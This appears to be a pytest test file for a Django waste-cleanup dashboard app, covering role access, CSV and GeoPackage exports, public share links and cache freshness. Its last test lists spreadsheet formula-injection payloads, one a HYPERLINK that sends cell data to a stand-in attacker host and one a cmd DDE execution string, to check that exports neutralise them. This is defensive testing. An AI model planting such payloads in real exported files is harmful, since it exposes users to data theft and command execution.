"""The dashboard pages, exports and the public share link."""

import csv
import io
import re

import pytest

from accounts.models import Role
from tests.dashboards.helpers import make_history
from tests.factories import PASSWORD, ZoneFactory, member


@pytest.fixture
def history(community):
    return make_history(community)


JANUARY = {"period": "month", "date_from": "2025-01-01"}


@pytest.fixture
def as_role(client, community):
    def login(role):
        user = member(community, role, first_name="Jeanne", last_name="Agentname")
        client.force_login(user)
        return client

    return login


@pytest.mark.parametrize("role", [Role.VIEWER, Role.DISPATCHER, Role.ADMIN])
def test_viewer_and_up_see_the_dashboard(as_role, role, history):
    response = as_role(role).get("/dashboards/", JANUARY)
    assert response.status_code == 200
    page = response.content.decode()
    assert 'data-kpi="cleanings"' in page and ">4<" in page
    assert "/static/vendor/leaflet/leaflet.js" in page


def test_agents_and_strangers_do_not(client, as_role, history):
    assert client.get("/dashboards/").status_code == 302  # to the log-in page
    assert as_role(Role.AGENT).get("/dashboards/").status_code == 403


def test_page_loads_nothing_from_other_origins(as_role, history):
    page = as_role(Role.VIEWER).get("/dashboards/", JANUARY).content.decode()
    external = re.findall(r"""(?:src|href)=["'](https?:)?//[^"']+""", page)
    assert external == []
    assert "cdn" not in page.lower() and "jquery" not in page.lower()


def test_bad_filter_is_a_400_naming_it(as_role):
    response = as_role(Role.VIEWER).get("/dashboards/", {"period": "decade"})
    assert response.status_code == 400 and b'data-field="period"' in response.content


def test_district_filter_of_another_community_is_refused(as_role, other_community):
    zone = ZoneFactory(community=other_community)
    response = as_role(Role.VIEWER).get("/dashboards/", {"zone": zone.pk})
    assert response.status_code == 400


def test_csv_exports(as_role, history):
    client = as_role(Role.VIEWER)
    for table in ("districts", "sites", "streets", "months"):
        response = client.get(f"/dashboards/export/{table}.csv", JANUARY)
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(response.content.decode())))
        assert len(rows[0]) >= 4
    sites = list(
        csv.DictReader(io.StringIO(client.get("/dashboards/export/sites.csv", JANUARY).content.decode()))
    )
    assert [int(r["removals"]) for r in sites] == [2, 1, 1]


def test_hotspots_geopackage_is_readable(as_role, history, tmp_path):
    import geopandas as gpd

    response = as_role(Role.VIEWER).get("/dashboards/export/hotspots.gpkg", JANUARY)
    assert response.status_code == 200
    path = tmp_path / "hotspots.gpkg"
    path.write_bytes(response.content)
    frame = gpd.read_file(path, layer="hotspots")
    assert frame.crs.to_epsg() == 4326 and len(frame) == 3
    assert frame.iloc[0]["returns"] == 1 and frame.iloc[0]["site_id"] == history["a"].pk


def test_printable_report(as_role, history):
    response = as_role(Role.VIEWER).get("/dashboards/report/", JANUARY)
    assert response.status_code == 200 and b"data-print" in response.content


def test_public_link_has_no_personal_data(client, community, as_role, history):
    admin = as_role(Role.ADMIN)
    assert as_role(Role.VIEWER).post("/dashboards/share/").status_code == 403
    admin = member(community, Role.ADMIN)
    client.force_login(admin)
    page = client.post("/dashboards/share/").content.decode()
    url = re.search(r'id="share-url" type="text" readonly value="([^"]+)"', page).group(1)
    client.logout()
    public = client.get(url, JANUARY)
    assert public.status_code == 200
    body = public.content.decode()
    assert 'data-kpi="cleanings"' in body
    for personal in ("Agentname", "Jeanne", history["team"].name, "photo", PASSWORD):
        assert personal not in body
    assert 'name="team"' not in body
    assert client.get(url, {**JANUARY, "team": history["team"].pk}).status_code == 400
    token = url.rstrip("/").rsplit("/", 1)[1]
    exported = client.get(f"/dashboards/public/{token}/export/sites.csv", JANUARY).content.decode()
    assert "Agentname" not in exported and history["team"].name not in exported
    tile = client.get("/tiles/heatmap/14/8207/5863.png", {"share": token})
    assert tile.status_code == 200 and tile["Cache-Control"].startswith("public")
    # Revoking kills the link.
    client.force_login(admin)
    client.post("/dashboards/share/", {"revoke": "1"})
    client.logout()
    assert client.get(url).status_code == 404
    assert client.get("/tiles/heatmap/14/8207/5863.png", {"share": token}).status_code == 403
    assert client.get("/dashboards/public/forged-token/").status_code == 404


def _stamps_read(client, path, query) -> int:
    """How many times serving the page read the state of the data (dashboards/sql/facts_stamp.sql)."""
    from django.core.cache import cache
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    cache.clear()  # the figures are computed, not served from the page cache
    with CaptureQueriesContext(connection) as queries:
        assert client.get(path, query).status_code == 200
    return sum("max(updated_at) FROM interventions_report" in q["sql"] for q in queries.captured_queries)


def test_freshness_is_decided_once_per_page(as_role, community, history, settings):
    """Seven figure reads per page (three periods' KPIs, districts, sites, streets, months):
    the state of the data is read once, before them, not once by each (was 8 times a page)."""
    from dashboards.models import RecurrenceState
    from tests.dashboards.helpers import cleaning

    client = as_role(Role.VIEWER)
    assert _stamps_read(client, "/dashboards/", JANUARY) == 1  # the first view builds the facts
    assert _stamps_read(client, "/dashboards/", JANUARY) == 1  # up to date: read once
    assert _stamps_read(client, "/dashboards/report/", JANUARY) == 1
    assert _stamps_read(client, "/dashboards/export/months.csv", JANUARY) == 1
    assert _stamps_read(client, "/dashboards/export/hotspots.gpkg", JANUARY) == 1
    # The data changed: the check, then the rebuild's own read under its lock, and no other.
    settings.RONDE_RECURRENCE_FRESH_S = 0
    cleaning(community, history["tag"], day="2025-01-25", site=history["c"])
    before = RecurrenceState.objects.get(pk=community.pk).refreshed_at
    assert _stamps_read(client, "/dashboards/", JANUARY) == 2
    assert RecurrenceState.objects.get(pk=community.pk).refreshed_at > before
    page = client.get("/dashboards/", JANUARY).content.decode()
    assert 'data-kpi="cleanings"' in page and ">5<" in page  # the page shows the new removal


def test_background_rebuild_precomputes_the_default_pages(as_role, community, history):
    """The rebuild task stores the unfiltered month/quarter/year figures; the first page view
    after it reads them (not recomputed), filtered views compute their own."""
    import datetime as dt
    import pickle

    from django.core.cache import cache
    from django.utils import timezone

    from dashboards.filters import filters_from_query
    from dashboards.models import RecurrenceState
    from dashboards.selectors import dashboard_figures, site_history
    from dashboards.services.recurrence import figures_precomputed, recurrence_refresh
    from tests.dashboards.helpers import cleaning

    today = timezone.localdate()
    cleaning(community, history["tag"], day=today.isoformat(), site=history["a"])
    cleaning(community, history["tag"], day=(today - dt.timedelta(days=1)).isoformat(), dx=500)
    state = recurrence_refresh(community_id=community.pk, precompute=True)
    month = filters_from_query({}, community=community)
    stored = figures_precomputed(state=state, filters=month)
    assert stored is not None
    fresh = dashboard_figures(community=community, filters=month, state=state)
    assert stored["comparison"] == fresh["comparison"] and stored["comparison"].current.cleanings == 2
    assert stored["districts"] == fresh["districts"] and stored["spots"] == fresh["spots"]
    spot = stored["spots"][0]  # the batched histories are each site's own history
    assert stored["histories"][spot.site_id] == site_history(
        community=community, site_id=spot.site_id, limit=10
    )
    for period in ("quarter", "year"):
        assert figures_precomputed(
            state=state, filters=filters_from_query({"period": period}, community=community)
        )
    filtered = filters_from_query({"category": str(history["tag"].pk)}, community=community)
    assert figures_precomputed(state=state, filters=filtered) is None

    # The page shows the stored set: mark it, and the mark appears.
    row = RecurrenceState.objects.get(pk=community.pk)
    sets = pickle.loads(bytes(row.figures))  # noqa: S301 (written by the rebuild above)
    for figures in sets.values():
        figures["comparison"].current.cleanings = 913  # < 1000: no thousands separator
    row.figures = pickle.dumps(sets)
    row.save(update_fields=["figures"])
    cache.clear()
    client = as_role(Role.VIEWER)
    assert ">913<" in client.get("/dashboards/").content.decode()
    assert ">913<" not in client.get("/dashboards/", {"category": history["tag"].pk}).content.decode()
    # A rebuild inside a request (no precompute) drops sets built from the older facts.
    state = recurrence_refresh(community_id=community.pk)
    assert figures_precomputed(state=state, filters=month) is None
    cache.clear()


FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"clic")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"]


def assert_no_formula_cells(text: str) -> list[list[str]]:
    """No cell a spreadsheet would run (issue 22); plain numbers, negative ones too, stay numbers."""
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only a plain number may start so
    return rows


def test_csv_exports_neutralise_formulas_including_public_links(client, community, as_role, history):
    """Issue 22: a district named `=HYPERLINK(…)` came out unchanged in the exports."""
    for name in FORMULAS:
        ZoneFactory(community=community, kind="district", name=name)  # around the sites
    from accounts.sharing import share_token_make

    token = share_token_make(community=community)
    viewer = as_role(Role.VIEWER)
    for url in ("/dashboards/export/districts.csv", f"/dashboards/public/{token}/export/districts.csv"):
        response = viewer.get(url, JANUARY)
        assert response.status_code == 200, url
        rows = assert_no_formula_cells(response.content.decode())
        names = {row[1] for row in rows[1:]}
        assert names >= {"'" + f for f in FORMULAS}, (url, names)
    for table in ("sites", "streets", "months"):
        assert_no_formula_cells(viewer.get(f"/dashboards/export/{table}.csv", JANUARY).content.decode())
